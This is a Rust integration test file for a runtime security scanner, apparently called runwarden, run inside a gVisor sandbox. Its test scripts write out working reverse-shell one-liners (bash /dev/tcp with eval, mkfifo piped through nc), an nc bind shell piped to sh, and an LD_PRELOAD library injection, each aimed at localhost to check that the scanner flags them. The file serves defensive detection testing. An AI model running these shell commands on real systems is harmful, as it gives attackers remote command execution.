//! The scanner's sensors under gVisor (Cloud Run's first generation), with Debian's `runsc do`:
//! runwarden is PID 1 of the sandbox, the attacker's listener runs inside it too (`runsc do` keeps
//! sandbox sockets off the host). gVisor has no netlink sock_diag, so sockets come from its
//! /proc/net: the test checks that fallback is the one in use. Needs root and `runsc`, `nc`.

use std::path::PathBuf;
use std::process::{Command, Output};

use serde_json::Value;

fn runwarden() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_runwarden"))
}

/// `runwarden -- bash -c SCRIPT` as PID 1 of a gVisor sandbox, scanning every 100 ms, debug logs on.
fn in_gvisor(script: &str) -> Output {
    let out = Command::new("timeout")
        .args([
            "120",
            "runsc",
            "--network=none",
            "do",
            "env",
            "RUNWARDEN_SCAN_INTERVAL=100ms",
            "RUNWARDEN_LOG=debug",
        ])
        .arg(runwarden())
        .args(["--", "bash", "-c", script])
        .output()
        .expect("runsc must be installed (Debian package runsc)");
    assert_ne!(
        out.status.code(),
        Some(124),
        "timed out under gVisor: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn lines(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stderr).lines().filter_map(|l| serde_json::from_str(l).ok()).collect()
}

fn findings(out: &Output) -> Vec<Value> {
    lines(out).into_iter().filter_map(|v| v.get("finding").cloned()).collect()
}

fn rule<'a>(f: &'a [Value], id: &str, out: &Output) -> &'a Value {
    f.iter().find(|f| f["rule"]["id"] == id).unwrap_or_else(|| {
        panic!("no {id} finding under gVisor: {f:#?}\n{}", String::from_utf8_lossy(&out.stderr))
    })
}

/// A listener inside the sandbox that signals readiness with a file, waits for the victim to sit in
/// its state for a few scans, sends `send`, and prints what came back.
fn listener(port: u16, send: &str) -> String {
    format!(
        "timeout 60 python3 -c \"import socket,time;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);\
s.bind(('127.0.0.1',{port}));s.listen(1);open('/tmp/rw-ready-{port}','w').close();c,_=s.accept();time.sleep(1.5);\
c.sendall(b'{send}');time.sleep(1);print('session:',c.recv(4096))\" & sleep 0.2; \
for i in $(seq 100); do [ -e /tmp/rw-ready-{port} ] && break; sleep 0.1; done; rm -f /tmp/rw-ready-{port}; "
    )
}

#[test]
fn gvisor_stdio_rewired_and_fifo_reverse_shells() {
    let script = format!(
        "{l1} bash -c 'exec 5<>/dev/tcp/127.0.0.1/4461; exec 0<&5 1>&5 2>&5; while read -r l; do eval \"$l\"; done'; wait; \
         {l2} rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -q 1 127.0.0.1 4462 > /tmp/f; wait; rm -f /tmp/f",
        l1 = listener(4461, "echo one-$((6*7))\\\\nexit 0\\\\n"),
        l2 = listener(4462, "echo two-$((6*7))\\\\nexit\\\\n"),
    );
    let out = in_gvisor(&script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("one-42") && stdout.contains("two-42"), "the shells did not run: {stdout}");
    let f = findings(&out);
    let shells: Vec<&Value> = f.iter().filter(|f| f["rule"]["id"] == "reverse_shell_stdio_rewired").collect();
    assert_eq!(shells.len(), 2, "both reverse shells under gVisor: {f:#?}");
    let stdins: Vec<&str> =
        shells.iter().map(|f| f["processes"][0]["stdio"]["stdin"].as_str().unwrap()).collect();
    assert!(
        stdins.iter().any(|s| s.starts_with("socket tcp 127.0.0.1:") && s.contains("->127.0.0.1:4461")),
        "{stdins:?}"
    );
    assert!(stdins.iter().any(|s| s.contains(" through nc") && s.contains("->127.0.0.1:4462")), "{stdins:?}");
    // gVisor implements no sock_diag: the scanner said it read /proc/net instead.
    let stats =
        lines(&out).into_iter().find(|v| v["message"] == "pipeline finished").expect("pipeline stats");
    assert_eq!(stats["data"]["socketSource"], "/proc/net", "{stats}");
}

#[test]
fn gvisor_bind_shell_and_added_library() {
    let libz = ["/usr/lib/x86_64-linux-gnu/libz.so.1", "/lib/x86_64-linux-gnu/libz.so.1"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("libz.so.1");
    let script = format!(
        "rm -f /tmp/b; mkfifo /tmp/b; timeout 1.5 nc -l -p 4463 < /tmp/b | sh > /tmp/b 2>&1; rm -f /tmp/b; \
         cp {libz} /tmp/libhook.so && LD_PRELOAD=/tmp/libhook.so sleep 1.5; rm -f /tmp/libhook.so"
    );
    let out = in_gvisor(&script);
    let f = findings(&out);
    let l = rule(&f, "new_listening_socket", &out);
    assert_eq!(l["category"], "Command and Control: New Listening Socket");
    assert_eq!(l["connections"][0]["sourcePort"], 4463);
    let lib = rule(&f, "added_library_loaded", &out);
    assert_eq!(lib["processes"][0]["libraries"][0]["path"], "/tmp/libhook.so");
}
